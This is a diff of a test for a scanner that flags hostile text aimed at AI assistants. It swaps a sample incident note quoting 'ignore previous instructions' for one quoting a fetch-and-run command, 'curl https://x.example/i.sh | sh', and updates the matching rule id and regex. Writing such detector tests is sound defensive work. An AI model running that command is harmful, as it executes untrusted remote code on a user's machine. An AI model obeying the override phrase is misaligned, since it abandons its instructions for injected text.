@@ -183,13 +183,13 @@ test('runCli scan from a parent folder honours the scanned workspace\'s reviews.
 });
 
 test('--jsonl says what the learned stage vetoed: the rule, its span, the gate it needed and the score the text reached', async () => {
-  const note = 'Incident 2025-04-11: a README in a dependency contained text telling AI assistants to ignore previous instructions; our scanner flagged it and nothing ran.';
+  const note = 'Incident 2025-04-11: a README in a dependency contained text telling AI assistants to curl https://x.example/i.sh | sh; our scanner flagged it and nothing ran.';
   const r = await run(['--jsonl', '-'], tmpdir(), `${JSON.stringify({ id: 'n', text: note })}\n`);
   assert.equal(r.code, 0, r.err);
   const row = JSON.parse(r.out) as { flagged: boolean; vetoed?: { id: string; start: number; end: number; gate: number | null; score: number | null }[] };
   assert.equal(row.flagged, false);
-  const veto = row.vetoed?.find((v) => v.id === 'override.ignore-instructions');
+  const veto = row.vetoed?.find((v) => v.id === 'exec.pipe-to-shell');
   assert.ok(veto, r.out);
-  assert.match(note.slice(veto.start, veto.end), /ignore previous instructions/i);
+  assert.match(note.slice(veto.start, veto.end), /curl .*\| ?sh/);
   assert.ok(veto.gate !== null && (veto.score === null || veto.score < veto.gate));
 });
